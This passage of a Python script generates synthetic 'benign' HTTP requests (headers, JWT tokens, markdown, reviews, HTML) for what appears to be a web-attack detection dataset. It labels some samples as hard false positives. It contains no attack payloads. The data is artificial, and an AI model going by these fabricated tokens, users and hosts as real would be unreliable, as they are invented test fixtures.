        + [mutation(m, False) for m in Ms]
        + [inline_literal, persisted, batched, upload, github_search, github_search]
    )
    run_makers("benign", "benign_graphql", makers, 76)


def gen_benign_headers():
    def ua():
        v = R.choice(
            BROWSER_UAS
            + [
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                "Twitterbot/1.0",
                "WhatsApp/2.24.24.76 A",
                "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
            ]
        )
        H(
            "GET",
            R.choice(["/", "/blog/post-" + str(R.randint(1, 300)), "/products/" + R.choice(PRODUCTS)[1].lower()]),
            "User-Agent",
            v,
            kind="web",
        )

    def al():
        v = R.choice(
            [
                "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
                "zh-CN,zh;q=0.9,en;q=0.8",
                "en-AU,en-GB;q=0.9,en;q=0.8",
                "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
                "pl-PL,pl;q=0.9",
            ]
        )
        H("GET", "/", "Accept-Language", v, kind="web")

    def secchua():
        v = R.choice(
            [
                '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
                '"Chromium";v="130", "Microsoft Edge";v="130", "Not?A_Brand";v="99"',
                '"Not(A:Brand";v="99", "Brave";v="131", "Chromium";v="131"',
            ]
        )
        H(
            "GET",
            "/" + R.choice(["", "account", "pricing"]),
            "sec-ch-ua",
            v,
            kind="web",
            extra={"sec-ch-ua-mobile": "?0", "sec-ch-ua-platform": R.choice(['"Windows"', '"macOS"', '"Linux"'])},
        )

    def referer(fp):
        def _():
            if fp:
                v = R.choice(
                    [
                        "https://www.google.com/search?q=select+all+shortcut+mac",
                        "https://duckduckgo.com/?q=how+to+drop+a+column+in+pandas&ia=web",
                        "https://www.bing.com/search?q=%22union+square%22+parking",
                        "https://app.trellisly.com/login?redirect=%2Fadmin%2Fsettings%3Ftab%3Dusers",
                        "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array",
                    ]
                )
            else:
                v = R.choice(
                    [
                        "https://www.google.com/",
                        "https://t.co/" + rtoken(10),
                        "https://www.shopwave.io/products",
                        "https://news.ycombinator.com/",
                        "https://www.reddit.com/r/webdev/",
                    ]
                )
            H("GET", R.choice(["/", "/pricing", "/blog/sql-tips"]), "Referer", v, hard=fp, kind="web")

        return _

    def xff():
        v = ", ".join(
            R.choice(["203.0.113.", "198.51.100.", "192.0.2."]) + str(R.randint(1, 254)) for _ in range(R.randint(1, 3))
        )
        H("GET", "/api/v1/" + R.choice(["products", "me", "cart"]), "X-Forwarded-For", v)

    def forwarded():
        v = f'for=192.0.2.{R.randint(1, 254)};proto=https;by=203.0.113.{R.randint(1, 254)}, for="[2001:db8:cafe::{R.randint(10, 99)}]"'
        H("GET", "/", "Forwarded", v, hard=True)

    def etag():
        v = R.choice(['W/"' + rhex(4) + "-" + str(R.randint(10**12, 10**13)) + '"', '"' + rhex(32) + '"'])
        H("GET", "/api/v1/catalog", "If-None-Match", v, hard=True)

    def traceparent():
        H("GET", "/api/v1/orders/" + str(R.randint(1000, 9999)), "traceparent", f"00-{rhex(32)}-{rhex(16)}-01")

    def amzn():
        H(
            "GET",
            "/api/v1/health",
            "X-Amzn-Trace-Id",
            f"Root=1-{rhex(8)}-{rhex(24)};Parent={rhex(16)};Sampled=1",
            hard=True,
        )

    def cache():
        H(
            "GET",
            "/" + R.choice(["", "feed.xml", "api/v1/prices"]),
            "Cache-Control",
            R.choice(["no-cache", "max-age=0", "no-store, no-cache, must-revalidate"]),
        )

    def rng():
        a = R.randint(0, 10) * 1048576
        H("GET", "/media/video-" + str(R.randint(1, 50)) + ".mp4", "Range", f"bytes={a}-{a + 1048575}")

    def ims():
        H(
            "GET",
            "/static/app." + rhex(8) + ".js",
            "If-Modified-Since",
            f"{R.choice(['Mon', 'Tue', 'Wed', 'Thu'])}, 0{R.randint(1, 4)} Dec 2026 {R.randint(10, 23)}:{R.randint(10, 59)}:{R.randint(10, 59)} GMT",
        )

    def digest():
        v = (
            f'Digest username="{asc(R.choice(FIRST)).lower()}", realm="api@shopwave.io", nonce="{rhex(32)}", uri="/dir/index.html", qop=auth, nc=00000001, '
            f'cnonce="{rhex(8)}", response="{rhex(32)}", opaque="{rhex(32)}"'
        )
        H("GET", "/dir/index.html", "Authorization", v, hard=True)

    def accept():
        H(
            "GET",
            "/repos/acme/web/pulls",
            "Accept",
            R.choice(
                [
                    "application/vnd.github+json",
                    "application/vnd.api+json",
                    "application/hal+json",
                    "text/csv;q=0.9, application/json",
                ]
            ),
        )

    def prefer():
        H(
            "PATCH",
            "/api/v1/people/" + str(R.randint(1, 999)),
            "Prefer",
            R.choice(["return=representation", "return=minimal", "respond-async, wait=10"]),
            body='{"title":"Ms"}',
            ctype="application/merge-patch+json",
        )

    def stripe_sig():
        v = f"t={R.randint(1733000000, 1733400000)},v1={rhex(64)},v0={rhex(64)}"
        H(
            "POST",
            "/webhooks/stripe",
            "Stripe-Signature",
            v,
            body='{"id":"evt_' + rtoken(24) + '","type":"invoice.paid"}',
            ctype="application/json",
            hard=True,
        )

    def gh_event():
        H(
            "POST",
            "/webhooks/github",
            "X-GitHub-Event",
            R.choice(["pull_request", "push", "issue_comment", "workflow_run"]),
            body='{"action":"opened"}',
            ctype="application/json",
            extra={"X-GitHub-Delivery": ruuid(), "X-Hub-Signature-256": "sha256=" + rhex(64)},
        )

    def via():
        H(
            "GET",
            "/",
            "Via",
            R.choice(["1.1 vegur", "1.1 varnish, 1.1 varnish", "2.0 cloudfront.net (CloudFront)", "1.1 google"]),
            hard=False,
        )

    def idem():
        H(
            "POST",
            "/api/v1/charges",
            "Idempotency-Key",
            ruuid(),
            body='{"amount":2500,"currency":"usd"}',
            ctype="application/json",
        )

    def client_version():
        v = R.choice(
            ["6.4.1 (build 2291)", "ios/18.1; app/6.4.1", "android-13/3.18.0 (SM-S911B)", "web-2026.12.04-" + rhex(7)]
        )
        H("GET", "/api/v1/config", "X-Client-Version", v, hard=("(" in v or ";" in v))

    def from_hdr():
        H(
            "GET",
            "/robots.txt",
            "From",
            "googlebot(at)googlebot.com",
            hard=True,
            extra={"User-Agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
        )

    def baggage():
        v = f"userId={asc(R.choice(FIRST)).lower()},serverNode=DF%2028,isProduction=false,tenant=acme-{R.randint(1, 9)}"
        H("GET", "/api/v1/reports", "baggage", v, hard=True)

    def misc():
        name, v = R.choice(
            [
                ("DNT", "1"),
                ("Upgrade-Insecure-Requests", "1"),
                ("X-Requested-With", "XMLHttpRequest"),
                ("Sec-Fetch-Mode", "navigate"),
                ("Sec-Fetch-Site", "same-origin"),
                ("Sec-Fetch-Dest", "document"),
                ("TE", "trailers"),
                ("Accept-Charset", "utf-8, iso-8859-1;q=0.5"),
                ("Priority", "u=0, i"),
                ("Save-Data", "on"),
            ]
        )
        H("GET", "/" + R.choice(["", "shop", "help/faq", "account"]), name, v, kind="web")

    def realip():
        H(
            "GET",
            "/api/v1/geo",
            R.choice(["X-Real-IP", "CF-Connecting-IP", "True-Client-IP"]),
            R.choice(["203.0.113.", "198.51.100."]) + str(R.randint(1, 254)),
        )

    def apikey():
        H(
            "GET",
            "/api/v1/rates",
            R.choice(["X-Api-Key", "apikey", "X-API-Token"]),
            R.choice(["pk_live_", "ak_", ""]) + rtoken(32),
        )

    def origin():
        H(
            "POST",
            "/api/v1/cart/items",
            "Origin",
            "https://" + R.choice(HOSTS_WEB),
            body='{"sku":"' + R.choice(PRODUCTS)[1] + '","qty":1}',
            ctype="application/json",
        )

    makers = [
        ua,
        al,
        secchua,
        referer(False),
        referer(True),
        xff,
        forwarded,
        etag,
        traceparent,
        amzn,
        cache,
        rng,
        ims,
        digest,
        accept,
        prefer,
        stripe_sig,
        gh_event,
        via,
        idem,
        client_version,
        from_hdr,
        baggage,
        misc,
        realip,
        apikey,
        origin,
        secchua,
        referer(True),
        misc,
    ]
    run_makers("benign", "benign_headers", makers, 76)


JWT_KEY = b"v14-demo-signing-key"


def make_jwt(claims, alg="HS256", kid=None, sig_len=None):
    hdr = {"alg": alg, "typ": "JWT"}
    if kid:
        hdr["kid"] = kid
    h = b64u(json.dumps(hdr, separators=(",", ":")))
    p = b64u(json.dumps(claims, separators=(",", ":")))
    if alg == "HS256":
        s = b64u(hmac.new(JWT_KEY, (h + "." + p).encode(), hashlib.sha256).digest())
    else:
        s = b64u(bytes(R.getrandbits(8) for _ in range(sig_len or 256)))
    return h + "." + p + "." + s


def jwt_claims(kind="basic"):
    now = R.randint(1764900000, 1764990000)
    f, l = person()
    c = {"sub": R.choice(["user_", "auth0|", ""]) + rtoken(18), "iat": now, "exp": now + R.choice([900, 3600, 86400])}
    if kind in ("oidc", "rich"):
        c.update(
            {
                "iss": R.choice(
                    [
                        "https://accounts.google.com",
                        "https://login.microsoftonline.com/" + ruuid() + "/v2.0",
                        "https://auth.joinpath.dev/",
                    ]
                ),
                "aud": rtoken(24) + ".apps.googleusercontent.com",
                "email": email_for(f, l),
                "email_verified": True,
                "name": f"{f} {l}",
                "nonce": rtoken(16),
            }
        )
    if kind == "rich":
        c["https://hasura.io/jwt/claims"] = {
            "x-hasura-default-role": "user",
            "x-hasura-allowed-roles": ["user", "editor"],
            "x-hasura-user-id": str(R.randint(1, 99999)),
        }
        c["scope"] = "openid profile email read:orders write:orders"
        c["permissions"] = ["orders:read", "orders:write", "reports:export"]
    if kind == "basic":
        c["role"] = R.choice(["user", "member", "editor"])
        c["tenant"] = "acme-" + str(R.randint(1, 40))
    return c


def gen_benign_jwt():
    def bearer():
        t = make_jwt(jwt_claims("basic"))
        H("GET", "/api/v1/" + R.choice(["me", "orders", "projects", "notifications"]), "Authorization", "Bearer " + t)

    def bearer_rs():
        t = make_jwt(jwt_claims("oidc"), alg="RS256", kid=rhex(40))
        H("GET", "/api/v1/userinfo", "Authorization", "Bearer " + t, hard=False)

    def bearer_rich():
        t = make_jwt(
            jwt_claims("rich"), alg="RS256", kid="keys/" + R.choice(["2026-06", "2026-09", "2026-12"]) + "/signing"
        )
        H(
            "POST",
            "/v1/graphql",
            "Authorization",
            "Bearer " + t,
            body='{"query":"query { orders(limit: 5) { id total } }"}',
            ctype="application/json",
            hard=True,
        )

    def cookie():
        t = make_jwt(jwt_claims("basic"))
        C(
            "/" + R.choice(["dashboard", "app", "account"]),
            R.choice(["access_token", "jwt", "auth_token", "__Host-session"]),
            t,
            others=["lang=en"],
        )

    def id_token():
        t = make_jwt(jwt_claims("oidc"), alg="RS256", kid=rhex(40))
        J("POST", "/api/v1/auth/google", {"id_token": PH, "client_id": rtoken(24) + ".apps.googleusercontent.com"}, t)

    def refresh():
        t = make_jwt(
            {
                "sub": rtoken(18),
                "typ": "refresh",
                "jti": ruuid(),
                "iat": R.randint(1764900000, 1764990000),
                "exp": R.randint(1767500000, 1767600000),
            }
        )
        J("POST", "/api/v1/auth/refresh", {"refresh_token": PH}, t)

    def jwt_bearer_form():
        t = make_jwt(
            {
                "iss": "svc-reporting@acme-prod.iam.gserviceaccount.com",
                "scope": "https://www.googleapis.com/auth/cloud-platform",
                "aud": "https://oauth2.googleapis.com/token",
                "iat": R.randint(1764900000, 1764990000),
                "exp": R.randint(1764990000, 1765000000),
            },
            alg="RS256",
            kid=rhex(40),
        )
        F(
            "POST",
            "/token",
            [("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer"), ("assertion", PH)],
            t,
            hard=True,
        )

    def client_assertion():
        t = make_jwt(
            {
                "iss": "client-" + rhex(8),
                "sub": "client-" + rhex(8),
                "aud": "https://auth.joinpath.dev/oauth2/token",
                "jti": ruuid(),
                "exp": R.randint(1764990000, 1765000000),
            },
            alg="RS256",
            kid=rhex(16),
        )
        F(
            "POST",
            "/oauth2/token",
            [
                ("grant_type", "client_credentials"),
                ("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"),
                ("client_assertion", PH),
                ("scope", "reports.read"),
            ],
            t,
            hard=True,
        )

    def magic_link():
        t = make_jwt({"sub": rtoken(18), "purpose": "magic_link", "exp": R.randint(1764990000, 1765000000)})
        Q("/auth/verify", "token", t, post="&redirect=%2Fdashboard", hard=True)

    def share_link():
        t = make_jwt({"doc": "d_" + rtoken(10), "perm": "view", "exp": R.randint(1764990000, 1765990000)})
        Q("/share/view", "t", t, hard=True)

    def ws():
        t = make_jwt(jwt_claims("basic"))
        Q(
            "/ws",
            "access_token",
            t,
            extra={
                "Upgrade": "websocket",
                "Connection": "Upgrade",
                "Sec-WebSocket-Version": "13",
                "Sec-WebSocket-Key": b64(bytes(R.getrandbits(8) for _ in range(16))),
            },
            hard=True,
        )

    def jwe():
        parts = [
            b64u(json.dumps({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": rhex(12)}, separators=(",", ":"))),
            b64u(bytes(R.getrandbits(8) for _ in range(256))),
            b64u(bytes(R.getrandbits(8) for _ in range(12))),
            b64u(bytes(R.getrandbits(8) for _ in range(R.randint(120, 220)))),
            b64u(bytes(R.getrandbits(8) for _ in range(16))),
        ]
        t = ".".join(parts)
        H("GET", "/api/v1/secure/profile", "Authorization", "Bearer " + t, hard=True)

    def apple():
        t = make_jwt(
            {
                "iss": "https://appleid.apple.com",
                "aud": "com.shopwave.app",
                "sub": "00" + rhex(4) + "." + rhex(32) + "." + str(R.randint(1000, 9999)),
                "email": rhex(10) + "@privaterelay.appleid.com",
                "is_private_email": True,
                "iat": R.randint(1764900000, 1764990000),
                "exp": R.randint(1764990000, 1765000000),
            },
            alg="RS256",
            kid="W6WcOKB",
        )
        J("POST", "/api/v1/auth/apple", {"identityToken": PH, "authorizationCode": rtoken(40)}, t)

    def supabase():
        t = make_jwt(
            {
                "aud": "authenticated",
                "role": "authenticated",
                "sub": ruuid(),
                "email": email_for(*person()),
                "app_metadata": {"provider": "email"},
                "exp": R.randint(1764990000, 1765000000),
            }
        )
        H(
            "GET",
            "/rest/v1/todos",
            "Authorization",
            "Bearer " + t,
            query="select=*&order=inserted_at.desc",
            extra={"apikey": make_jwt({"role": "anon", "iss": "supabase"})},
            hard=True,
        )

    def multipart_jwt():
        t = make_jwt(jwt_claims("basic"))
        M("/api/v1/uploads", [("token", PH), ("file", "photo.jpg", "image/jpeg", "(binary)")], t)

    def firebase():
        t = make_jwt(
            {
                "iss": "https://securetoken.google.com/shopwave-prod",
                "aud": "shopwave-prod",
                "user_id": rtoken(28),
                "firebase": {"sign_in_provider": "password", "identities": {"email": [email_for(*person())]}},
                "exp": R.randint(1764990000, 1765000000),
            },
            alg="RS256",
            kid=rhex(40),
        )
        H(
            "POST",
            "/api/v1/orders",
            "Authorization",
            "Bearer " + t,
            body='{"items":[{"sku":"' + R.choice(PRODUCTS)[1] + '","qty":1}]}',
            ctype="application/json",
        )

    makers = [
        bearer,
        bearer_rs,
        bearer_rich,
        cookie,
        id_token,
        refresh,
        jwt_bearer_form,
        client_assertion,
        magic_link,
        share_link,
        ws,
        jwe,
        apple,
        supabase,
        multipart_jwt,
        firebase,
        bearer,
        cookie,
        refresh,
    ]
    run_makers("benign", "benign_jwt", makers, 76)


MD_POSTS = [
    (
        "## Setup\n\n1. Clone the repo\n2. Run `npm install`\n3. Copy `.env.example` to `.env`\n\n> **Note:** Node 20+ is required.\n",
        False,
    ),
    (
        "Thanks for the report! Could you share the output of:\n\n```bash\nuname -a && docker --version\ncat /etc/os-release | head -n 3\n```\n",
        True,
    ),
    (
        "Here's the query I'm using -- it's slow on ~2M rows:\n\n```sql\nSELECT u.id, COUNT(o.id)\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nWHERE u.created_at >= '2026-01-01'\nGROUP BY u.id;\n```\n\nAny index suggestions?\n",
        True,
    ),
    (
        "| Plan | Price | Seats |\n|------|------:|------:|\n| Free | $0 | 1 |\n| Pro | $12 | 5 |\n| Team | $49 | 25 |\n",
        False,
    ),
    ("- [x] Write tests\n- [x] Update docs\n- [ ] Release v2.3.0\n\nCloses #" + "118" + ".\n", False),
    ("Press <kbd>Ctrl</kbd> + <kbd>Shift</kbd> + <kbd>P</kbd> and type *Reload Window*.\n", True),
    (
        "<details>\n<summary>Stack trace</summary>\n\n```\nTypeError: Cannot read properties of undefined (reading 'map')\n    at render (app.js:42:17)\n```\n</details>\n",
        True,
    ),
    (
        "![Screenshot of the settings page](https://user-images.githubusercontent.com/1234/settings.png)\n\nThe toggle doesn't save on Firefox.\n",
        False,
    ),
    (
        "# Changelog\n\n## [2.3.0] - 2026-12-01\n### Fixed\n- Escaping of `<` and `>` in titles\n- Crash when the path contains `..` segments\n",
        True,
    ),
    ("To avoid XSS, never do `el.innerHTML = userInput`; use `textContent` or a sanitizer like DOMPurify.\n", True),
    ("Quick tip: `git log --oneline --graph --decorate --all` gives a nice tree view.\n", False),
    (
        "```mermaid\ngraph TD\n  A[Client] -->|HTTPS| B(API Gateway)\n  B --> C{Auth?}\n  C -->|yes| D[Service]\n```\n",
        True,
    ),
    ("Footnotes work too[^1].\n\n[^1]: See the [CommonMark spec](https://spec.commonmark.org/0.31.2/).\n", False),
    (
        "### Steps to reproduce\n1. Go to **Settings -> Billing**\n2. Click *Download invoice*\n3. See error `403 Forbidden`\n\n### Expected\nPDF downloads.\n",
        False,
    ),
    (
        "I'd recommend `rm -rf node_modules && npm ci` before anything else; lockfile drift bites everyone eventually.\n",
        True,
    ),
    ("Use `{{ variable }}` in Jinja templates and `{% raw %}...{% endraw %}` when you need literal braces.\n", True),
    ("**Release notes**\n\n- New: dark mode :new_moon:\n- Faster search (~40%)\n- Bug fixes\n", False),
    ('> "Premature optimization is the root of all evil." -- Donald Knuth\n\nBut measure first anyway.\n', False),
    ("Python one-liner for a quick server: `python3 -m http.server 8000` (don't expose it publicly!)\n", True),
    ("Weekly update:\n\n* shipped the new onboarding\n* fixed 12 bugs\n* next: SSO with Okta\n", False),
    (
        "Example `.htaccess`:\n\n```apache\nRewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n```\n",
        True,
    ),
    ("## FAQ\n\n**Q:** Can I self-host?\n**A:** Yes -- see [docs/self-hosting.md](docs/self-hosting.md).\n", False),
    (
        "Windows users: the config lives in `%APPDATA%\\Trellis\\config.json`, on macOS it's `~/Library/Application Support/Trellis/`.\n",
        True,
    ),
    (
        "Recipe: **Banana bread**\n\n1. Mash 3 bananas\n2. Mix with 1/3 cup melted butter\n3. Bake 60 min at 175°C\n",
        False,
    ),
]


def gen_benign_markdown():
    def dress(text):
        intro = R.choice(
            [
                "",
                "",
                "@" + asc(R.choice(FIRST)).lower() + "\n\n",
                "Update:\n\n",
                "Following up on this.\n\n",
                "Same here.\n\n",
                "Good catch!\n\n",
            ]
        )
        outro = R.choice(
            [
                "",
                "",
                "\n\nThanks!",
                "\n\n/cc @" + R.choice(["ops", "frontend", "docs-team"]),
                "\n\n_Edited: fixed typo_",
                "\n\nHope that helps :)",
            ]
        )
        return intro + text + outro

    def issue(p):
        def _():
            J(
                "POST",
                "/api/v1/repos/acme/"
                + R.choice(["web", "cli", "docs"])
                + "/issues/"
                + str(R.randint(1, 900))
                + "/comments",
                {"body": PH},
                dress(p[0]),
                hard=p[1],
            )

        return _

    def forum(p):
        def _():
            F(
                "POST",
                "/t/reply",
                [("topic_id", str(R.randint(1000, 99999))), ("raw", PH), ("archetype", "regular")],
                dress(p[0]),
                hard=p[1],
            )

        return _

    def readme(p):
        def _():
            M(
                "/api/v1/projects/" + str(R.randint(1, 300)) + "/docs",
                [
                    ("message", "docs update"),
                    ("file", R.choice(["README.md", "CHANGELOG.md", "notes.md"]), "text/markdown", PH),
                ],
                p[0],
                hard=p[1],
            )

        return _

    def post(p):
        def _():
            J(
                "PUT",
                "/api/v1/posts/" + rtoken(10),
                {
                    "title": R.choice(["Draft", "Weekly notes", "How-to", "Release"]),
                    "format": "markdown",
                    "content_md": PH,
                    "published": False,
                },
                dress(p[0]),
                hard=p[1],
            )

        return _

    makers = []
    for p in MD_POSTS:
        makers += [issue(p), forum(p), readme(p), post(p)]
    R.shuffle(makers)
    run_makers("benign", "benign_markdown", makers, 76)


PROSE_PLAIN = [
    "Arrived quickly and works as described. Would buy again.",
    "The fabric is softer than I expected and the colour matches the photos.",
    "Great customer service, they replaced the broken part within two days.",
    "Battery life is about nine hours with normal use, which is fine for me.",
    "Lovely little cafe with friendly staff and very good cinnamon buns.",
    "I have been using this planner for a month and it keeps me organised.",
    "Fits true to size. I usually wear a medium and the medium fits well.",
    "Good value for money but the instructions could be clearer.",
    "Our team switched to this tool last quarter and onboarding was painless.",
    "Beautiful views from the trail, but bring water because there is no shade.",
    "The course was well structured and the exercises were genuinely useful.",
    "Delivery was a day late, otherwise no complaints at all.",
    "Hi Sam, just checking whether Thursday still works for the call.",
    "Happy anniversary to the best colleague anyone could ask for",
    "I am a product designer who loves typography, hiking and sourdough.",
]
PROSE_FP = [
    "I'd give it 5 stars if the strap weren't so stiff (it softens after a week or so).",
    "Don't bother with the 'express' option; mine took 6 days -- same as standard.",
    "Please select a union representative before Friday; the form's on the intranet.",
    "We'll drop the table tennis tournament this year & do a quiz night instead :)",
    "Honestly? It's fine. Not great, not terrible. 3/5.",
    "My son (he's 7) loved it -- we built the whole castle in one afternoon!",
    "Ordered the 12\" pan; it's heavier than it looks, so mind your wrists.",
    "Note to self: update the script before Monday's exec meeting; Dana's presenting.",
    "The delete key on mine sticks a bit... anyone else? Otherwise <3",
    "Meeting moved to 3pm (not 2pm!) -- room 4B; bring your laptops.",
    "If a > b and b > c then a > c; that's all the lesson was about, really.",
    'She said, "Where\'s the remote?" and I said, "Where it always is: lost."',
    "We can't accept returns after 30 days; exceptions are at the manager's discretion.",
    "Their alert system woke me at 3am for a non-issue; I've turned notifications off.",
    "Loved the O'Reilly book on SQL; chapter 4 (joins) finally made it click for me.",
    "Is it me, or does 'sudo make me a sandwich' never get old?",
    "Cost was $49.99 + tax; with the 20% code it came to ~$43.",
    "Select your size carefully -- they run small. I'm usually an M; ordered L.",
    "The admin panel is confusing: where do I update/insert new team members?",
    "Our cat knocked the router off the shelf; if I go quiet, that's why ;)",
]


def prose_text(fp):
    if fp:
        parts = [R.choice(PROSE_FP)]
        if R.random() < 0.6:
            extra = R.choice(PROSE_PLAIN + PROSE_FP)
            parts.insert(R.randint(0, 1), extra)
    else:
        parts = R.sample(PROSE_PLAIN, R.choice([1, 2, 2]))
    return " ".join(parts)


def gen_benign_prose():
    def review(fp):
        def _():
            t = prose_text(fp)
            J(
                "POST",
                "/api/v1/products/" + R.choice(PRODUCTS)[1].lower() + "/reviews",
                {"rating": R.randint(2, 5), "title": R.choice(["Good", "Solid", "Meh", "Love it", "OK"]), "body": PH},
                t,
                hard=fp,
            )

        return _

    def comment(fp):
        def _():
            t = prose_text(fp)
            F("POST", "/comments", [("thread", str(R.randint(100, 9999))), ("comment", PH)], t, hard=fp)

        return _

    def message(fp):
        def _():
            t = prose_text(fp)
            J(
                "POST",
                "/api/v1/conversations/" + rtoken(10) + "/messages",
                {"text": PH, "client_msg_id": ruuid()},
                t,
                hard=fp,
            )

        return _

    def bio(fp):
        def _():
            t = prose_text(fp)
            M("/settings/profile", [("display_name", " ".join(person())), ("bio", PH)], t, hard=fp)

        return _

    def share(fp):
        def _():
            t = prose_text(fp)
            Q("/share/tweet", "text", t, post="&url=" + enc("https://blog.inkwell.pub/p/" + rtoken(8).lower()), hard=fp)

        return _

    def xml_note(fp):
        def _():
            t = prose_text(fp)
            esc = t.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            X(
                "POST",
                "/api/v1/notes.xml",
                '<?xml version="1.0" encoding="UTF-8"?>\n<note><author>'
                + R.choice(FIRST)
                + "</author><text>"
                + esc
                + "</text></note>",
                t,
                hard=fp,
            )

        return _

    makers = [
        review(False),
        review(True),
        comment(False),
        comment(True),
        message(False),
        message(True),
        bio(False),
        bio(True),
        share(False),
        xml_note(True),
        xml_note(False),
        share(True),
    ]
    run_makers("benign", "benign_prose", makers, 76)


def gen_benign_richtext():
    yt = lambda: rtoken(11, string.ascii_letters + string.digits + "_-")

    def html_plain():
        if R.random() < 0.6:
            greet = R.choice(
                ["Hi team,", "Hello everyone,", "Dear customer,", "Good morning,", "Hi " + R.choice(FIRST) + ","]
            )
            items = "".join(
                "<li>" + x + "</li>"
                for x in R.sample(
                    [
                        "Roadmap review",
                        "Hiring update",
                        "Budget",
                        "Customer feedback",
                        "Launch checklist",
                        "Holiday rota",
                    ],
                    R.randint(2, 4),
                )
            )
            body = "<p>" + greet + "</p><p>" + R.choice(PROSE_PLAIN) + "</p>"
            if R.random() < 0.5:
                body += "<ul>" + items + "</ul>"
            return body + "<p>" + R.choice(["Best,", "Thanks,", "Cheers,"]) + "<br>" + R.choice(FIRST) + "</p>"
        return R.choice(
            [
                "<p>Hi team,</p><p>The <strong>new pricing page</strong> is live. Please review it before <em>Friday</em>.</p>",
                "<h2>Agenda</h2><ul><li>Roadmap review</li><li>Hiring update</li><li>AOB</li></ul>",
                "<p>Thanks for your order!</p><p>Your items will ship within <b>2 business days</b>.</p>",
                "<blockquote><p>Simplicity is prerequisite for reliability.</p></blockquote><p>- Edsger W. Dijkstra</p>",
                "<p>Steps:</p><ol><li>Open <code>Settings</code></li><li>Choose <strong>Billing</strong></li><li>Click <em>Update card</em></li></ol>",
                "<p>Welcome to the <u>spring newsletter</u>. Here is what is new this month.</p>",
            ]
        )

    def html_fp():
        v = R.choice(
            [
                '<p>Watch the demo:</p><p><iframe width="560" height="315" src="https://www.youtube.com/embed/'
                + yt()
                + '" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe></p>',
                '<p>Read more on <a href="https://docs.shopwave.io/guides/checkout?utm_source=newsletter&amp;utm_medium=email" target="_blank" rel="noopener noreferrer">our docs</a>.</p>',
                '<figure class="image"><img src="https://cdn.mediahub.net/uploads/2026/12/'
                + rtoken(8).lower()
                + '.jpg" alt="Team offsite in Lisbon" width="1200" height="800" srcset="https://cdn.mediahub.net/uploads/2026/12/x-600.jpg 600w, https://cdn.mediahub.net/uploads/2026/12/x-1200.jpg 1200w"><figcaption>Team offsite, Lisbon</figcaption></figure>',
                '<table style="border-collapse: collapse; width: 100%;" border="1"><tbody><tr><td style="width: 50%;">Plan</td><td style="width: 50%;">Price</td></tr><tr><td>Pro</td><td>$12/mo</td></tr></tbody></table>',
                '<p><span style="color: rgb(230, 0, 0); font-family: Arial, sans-serif;">Important:</span> maintenance window is Sunday 02:00&ndash;04:00 UTC.</p>',
                '<p>Contact us at <a href="mailto:support@helpdeskly.com?subject=Order%20question">support@helpdeskly.com</a> or call <a href="tel:+15550102234">+1 555 010 2234</a>.</p>',
                '<div class="callout" data-type="warning" data-id="'
                + rhex(8)
                + "\"><p>Don't run <code>DROP TABLE</code> on production without a backup!</p></div>",
                '<p>Embedded map:</p><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d'
                + str(R.randint(1000, 9999))
                + '!2d-0.12!3d51.50" width="600" height="450" style="border:0;" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>',
                '<pre><code class="language-html">&lt;script src="/js/app.js" defer&gt;&lt;/script&gt;</code></pre><p>Load the bundle with <code>defer</code>.</p>',
                '<p><img src="data:image/png;base64,'
                + b64(png_bytes(40))
                + '" alt="icon" width="16" height="16"> New feature!</p>',
                '<blockquote class="twitter-tweet"><p lang="en" dir="ltr">We just shipped dark mode &#127769;</p>&mdash; Trellisly (@trellisly) <a href="https://twitter.com/trellisly/status/'
                + str(R.randint(10**18, 10**19))
                + '">December 4, 2026</a></blockquote>',
                '<p>Use the <a href="https://app.trellisly.com/settings#notifications" title="Notification settings">settings page</a> &gt; Notifications &gt; <strong>Email</strong>.</p>',
                '<p style="text-align: center;"><a class="button" href="https://www.greenleaf-market.com/sale?code=WINTER20" style="background:#2e7d32;color:#fff;padding:12px 24px;border-radius:4px;">Shop the sale</a></p>',
            ]
        )
        return v

    def cms(fp):
        def _():
            v = html_fp() if fp else html_plain()
            J(
                "PUT",
                "/api/v1/pages/" + rtoken(8).lower(),
                {
                    "title": R.choice(["About us", "Winter sale", "Release notes", "Team update"]),
                    "body_html": PH,
                    "status": "draft",
                },
                v,
                hard=fp,
            )

        return _

    def wp(fp):
        def _():
            v = html_fp() if fp else html_plain()
            F(
                "POST",
                "/wp-admin/post.php",
                [("post_ID", str(R.randint(100, 9999))), ("content", PH), ("action", "editpost")],
                v,
                hard=fp,
            )

        return _

    def email(fp):
        def _():
            v = html_fp() if fp else html_plain()
            M(
                "/api/v1/campaigns/" + str(R.randint(1, 900)) + "/content",
                [("subject", "Newsletter"), ("html", PH)],
                v,
                hard=fp,
            )

        return _

    def rss(fp):
        def _():
            v = html_fp() if fp else html_plain()
            X(
                "POST",
                "/api/v1/feeds/publish",
                '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Blog</title><item><title>Update</title><content:encoded><![CDATA[@@PAYLOAD@@]]></content:encoded></item></channel></rss>',
                v,
                hard=fp,
            )

        return _

    def quill():
